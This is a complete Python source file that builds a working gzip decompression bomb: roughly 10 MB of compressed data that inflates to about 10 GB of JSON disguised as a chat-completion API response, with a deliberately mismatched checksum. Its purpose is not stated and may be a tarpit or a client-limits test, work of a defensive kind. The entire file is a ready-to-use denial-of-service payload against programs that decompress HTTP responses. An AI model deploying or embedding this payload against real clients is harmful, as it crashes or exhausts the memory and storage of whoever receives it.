"""A small body that inflates to a very large one."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

_BLOCK = 16 * 1024 * 1024
_BLOCKS = 640


class Bomb:
    """About 10 MB of gzip that stand for 10 GB of JSON.

    Its checksum is that of one block: nobody should get that far.
    """

    def __init__(self) -> None:
        self._parts: tuple[bytes, bytes, bytes] | None = None

    def blocks(self) -> Iterator[bytes]:
        """The compressed body, in blocks."""
        if self._parts is None:
            self._parts = self._compress()
        opening, block, closing = self._parts
        yield opening
        for _ in range(_BLOCKS):
            yield block
        yield closing

    def _compress(self) -> tuple[bytes, bytes, bytes]:
        """Three runs of deflate that do not refer to one another, so that the middle one can be repeated."""
        compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        opening = compressor.compress(b'{"id":"bomb","object":"chat.completion","choices":[{}],"padding":"')
        opening += compressor.flush(zlib.Z_FULL_FLUSH)
        block = compressor.compress(b" " * _BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)
        closing = compressor.compress(b'"}') + compressor.flush()
        return opening, block, closing
